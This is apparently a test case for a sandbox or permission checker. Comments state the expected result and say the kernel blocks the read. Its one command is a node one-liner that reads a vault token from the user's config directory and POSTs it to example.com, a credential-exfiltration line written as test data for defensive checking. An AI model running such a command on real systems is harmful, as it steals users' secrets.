# expect: exec
# why: node reads the store and posts it: the kernel holds the read
node -e 'const t = require("fs").readFileSync(process.env.HOME + "/.config/unnamed-vault/token"); require("http").request("http://example.com/", {method: "POST"}).end(t)'
